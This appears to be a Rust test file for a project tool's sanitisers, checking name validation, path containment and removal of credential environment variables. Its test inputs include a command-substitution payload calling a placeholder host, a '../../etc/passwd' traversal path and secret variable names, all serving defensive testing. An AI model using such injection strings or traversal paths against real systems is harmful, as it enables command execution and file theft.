use std::path::Path;

use orbit::safe_env::{sanitize_env, EnvMap};
use orbit::safe_path::resolve_safe;
use orbit::validation::{sanitize, validate_and_sanitize, validate_project_name};

#[test]
fn sanitize_examples() {
    assert_eq!(sanitize("my;app"), "myapp");
    assert_eq!(sanitize("my`app"), "myapp");
    assert_eq!(sanitize("  myapp  "), "myapp");
    assert_eq!(sanitize("my-app-123"), "my-app-123");
}

#[test]
fn sanitize_is_idempotent_over_every_ascii_pair() {
    for a in 0u8..128 {
        for b in [b' ', b'a', b';', b'-', 0x1f, 0x7f] {
            let s = format!(" {}x{} ", a as char, b as char);
            let once = sanitize(&s);
            assert_eq!(sanitize(&once), once, "input {:?}", s);
        }
    }
}

#[test]
fn validator_messages_follow_rule_order() {
    let msg = |name: &str| validate_project_name(name).unwrap_err().message();

    assert!(msg("").contains("required"));
    assert!(msg(&"a".repeat(51)).contains("50"));
    assert!(msg("MyApp").contains("lowercase"));
    assert!(msg("con").contains("reserved device name"));
    assert!(msg("dist").contains("reserved project name"));
    assert!(validate_project_name("my-app").is_ok());
}

#[test]
fn sanitized_value_is_what_gets_validated() {
    let check = validate_and_sanitize("my-app$(curl evil.sh)");
    assert_eq!(check.sanitized, "my-appcurl evil.sh");
    assert!(!check.is_valid());
}

#[test]
fn resolve_safe_never_escapes() {
    let base = Path::new("/home/user/projects");
    assert_eq!(resolve_safe(base, "../../etc/passwd"), None);

    let segments = ["..", ".", "a", "projects", "user", "/", "b"];
    for x in segments {
        for y in segments {
            for z in segments {
                let target = format!("{}/{}/{}", x, y, z);
                if let Some(p) = resolve_safe(base, &target) {
                    assert!(p.starts_with(base), "{} -> {}", target, p.display());
                }
            }
        }
    }
}

#[test]
fn credential_keys_never_survive() {
    let mut env = EnvMap::new();
    for key in [
        "AWS_SECRET_ACCESS_KEY",
        "client_secret",
        "PGPASSWORD",
        "CI_JOB_TOKEN",
        "deploy_private_key",
        "PATH",
        "HOME",
    ] {
        env.insert(key.to_string(), format!("value-of-{}", key));
    }

    let clean = sanitize_env(&env);
    assert_eq!(clean.len(), 2);
    assert_eq!(clean["PATH"], "value-of-PATH");
    assert_eq!(clean["HOME"], "value-of-HOME");
}
